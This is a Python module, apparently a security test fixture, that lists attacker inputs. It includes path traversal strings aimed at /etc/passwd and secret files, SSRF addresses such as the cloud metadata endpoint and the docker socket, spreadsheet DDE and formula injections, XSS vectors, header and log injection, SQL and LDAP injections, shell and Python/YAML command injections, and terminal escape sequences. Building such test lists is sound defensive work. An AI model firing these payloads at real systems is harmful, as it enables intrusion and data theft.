"""What an attacker would try: paths, addresses, and texts that a spreadsheet, a page, a header or a log would run."""

FILES = ["etc/passwd", "etc/hosts", "proc/self/environ", "vitrion-secret.txt", "champions.json", "service.db"]
CLIMBS = ["../" * 8, "..%2f" * 8, "%2e%2e/" * 8, "..\\" * 8, "....//" * 8, "..%252f" * 8, "/"]
ADDRESSES = [
    *("http://169.254.169.254/latest/meta-data/", "http://192.0.2.1/x.csv", "https://example.org/x.parquet"),
    *("file:///etc/passwd", "ftp://192.0.2.1/x", "s3://bucket/x.csv", "gs://bucket/x", "hdfs://192.0.2.1/x"),
    *("//192.0.2.1/share/x.csv", "\\\\192.0.2.1\\share\\x.csv", "gopher://192.0.2.1:70/_x", "jar:file:///x.jar!/y"),
    *("mlflow-artifacts:/x", "models:/tg/1", "dbfs:/x", "data:text/csv,formula%0ALiCl", "unix:///var/run/docker.sock"),
    *("sqlite:////etc/passwd", "CON", "/dev/zero"),
]
PATHS = [climb + name for climb in CLIMBS for name in FILES][:40] + ADDRESSES

SPREADSHEET = [
    *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://192.0.2.1","x")', "\t=1+1"),
    *(
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+A1",
        "\uff20SUM(1)",
        '=IMPORTXML("http://192.0.2.1",1)',
    ),
    *("-2+3+cmd|' /C calc'!A0", '=DDE("cmd","/C calc","x")', "+cmd|' /C calc'!A0", "@A1", "-A1", "=-1", "--1"),
]
HTML = [
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "</script><script>alert(1)//",
    ),
    *(
        "'-alert(1)-'",
        "<a href=javascript:alert(1)>x</a>",
        "{{7*7}}",
        "${7*7}",
        "<!--",
        "-->",
        "]]>",
        "<iframe src=//192.0.2.1>",
    ),
    *(
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "&lt;script&gt;",
        "&#60;script&#62;",
    ),
    *(
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<style>@import'//192.0.2.1'</style>",
        "<base href=//192.0.2.1>",
    ),
    *(
        "<ScRiPt>alert(1)</sCrIpT>",
        "\u2028alert(1)",
        "<b onmouseover=alert(1)>x</b>",
        "javascript:alert(1)",
        "<x:script>",
    ),
]
LINES = [
    *(
        "a\r\nSet-Cookie: x=1",
        "a\nLocation: http://192.0.2.1",
        "a\r\n\r\n<html>",
        "a%0d%0aSet-Cookie:x=1",
        "a\u0085b",
        "a\u2028b",
    ),
    *(
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "a\x00b",
        "a\x08b",
        "\u202egpj.exe",
        "a\nINFO fake line",
        "a\r\nERROR fake line",
    ),
    *("\x9b31m", "a\x0bb", "a\x0cb"),
]
QUERIES = [
    *("' OR '1'='1", "'; DROP TABLE jobs; --", '" OR 1=1 --', "1; SELECT pg_sleep(9)", "%' --", "x' UNION SELECT 1 --"),
    *(
        "$(touch ran)",
        "`touch ran`",
        "; touch ran",
        "| touch ran",
        "&& touch ran",
        '{"$gt": ""}',
        "%s%s%s%n",
        "%x%x%x",
        "{0.__class__}",
    ),
    *("__import__('os').system('touch ran')", "!!python/object/apply:os.system ['touch ran']", "*)(uid=*"),
]
TEXTS = SPREADSHEET + HTML + LINES + QUERIES
